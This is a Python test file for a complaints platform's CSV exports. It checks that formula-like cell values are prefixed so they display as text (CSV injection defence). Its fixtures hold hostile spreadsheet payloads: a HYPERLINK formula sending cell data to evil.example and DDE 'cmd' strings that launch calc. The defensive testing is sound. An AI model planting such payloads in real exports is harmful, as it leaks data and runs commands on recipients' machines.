"""Every CSV the platform writes shows formula-like text as text (OWASP CSV injection): the
queue export, and the SDK's nightly breached-cases example."""

from __future__ import annotations

import csv
import importlib.util
import io
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest

from api.spreadsheet import spreadsheet_safe
from tests.support.identity import Staff

ROOT = Path(__file__).resolve().parents[2]
SDK = ROOT / "clients" / "python"
URL = "/api/v1/complaints"

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
HOSTILE: dict[str, Any] = {
    "title": TITLE,
    "description": "+cmd|' /C calc'!A0",
    "channel": "hotline_1676",
    "district_code": "1026",
    "location": {"lat": 13.77, "lon": 100.553, "address": "-2+3+cmd|' /C calc'!A0"},
    "complainant": {"name": "=เจ้าของเรื่อง", "phone": "0812345678"},
}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+66812345678", "'+66812345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("=***", "'=***"),
        ("ส***", "ส***"),
        ("a=1", "a=1"),
        ("", ""),
        (-12.5, -12.5),
        (True, True),
    ],
)
def test_formula_cells_are_prefixed_and_the_rest_untouched(cell: object, shown: object) -> None:
    assert spreadsheet_safe(cell) == shown


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


async def test_the_queue_export_neutralises_formulas_and_masked_names(
    client: httpx.AsyncClient, staff: dict[str, Staff]
) -> None:
    omb = staff["omb"]
    created = await client.post(URL, headers=omb.headers, json=HOSTILE)
    assert created.status_code == 201, created.text
    case_number = created.json()["case_number"]

    r = await client.get(f"{URL}/export", headers=omb.headers, params={"format": "csv"})

    assert r.status_code == 200, r.text
    rows = _csv_rows(r.content.decode("utf-8"))
    [row] = [row for row in rows if row["case_number"] == case_number]
    assert row["title"] == "'" + TITLE
    assert row["description"] == "'+cmd|' /C calc'!A0"
    assert row["address"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["complainant_name"] == "'=***"  # the masked name still starts with `=`
    assert row["lat"] == "13.77" and row["district_code"] == "1026"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    # GeoJSON is not a spreadsheet format: its properties keep the text as it is.
    g = await client.get(f"{URL}/export", headers=omb.headers, params={"format": "geojson"})
    [feature] = [f for f in g.json()["features"] if f["properties"]["case_number"] == case_number]
    assert feature["properties"]["title"] == TITLE


def _example(name: str) -> ModuleType:
    """An example script of the SDK, imported as its users run it (the SDK on the path)."""
    if str(SDK) not in sys.path:
        sys.path.insert(0, str(SDK))
    spec = importlib.util.spec_from_file_location(f"sdk_example_{name}", SDK / "examples" / name)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


async def test_the_sdk_breached_cases_example_writes_safe_cells(
    client: httpx.AsyncClient, staff: dict[str, Staff], tmp_path: Path
) -> None:
    example: Any = _example("export_breached_cases.py")
    from fasttrack_client.models import ComplaintRead

    created = await client.post(URL, headers=staff["omb"].headers, json=HOSTILE)
    assert created.status_code == 201, created.text
    case = ComplaintRead.from_dict(created.json())
    output = tmp_path / "breached.csv"

    example.write_csv(output, [(case, {"resolution"})])

    [row] = _csv_rows(output.read_text(encoding="utf-8-sig"))
    assert row["title"] == "'" + TITLE
    assert row["case_number"] == case.case_number
    assert row["resolution_breached"] == "yes"
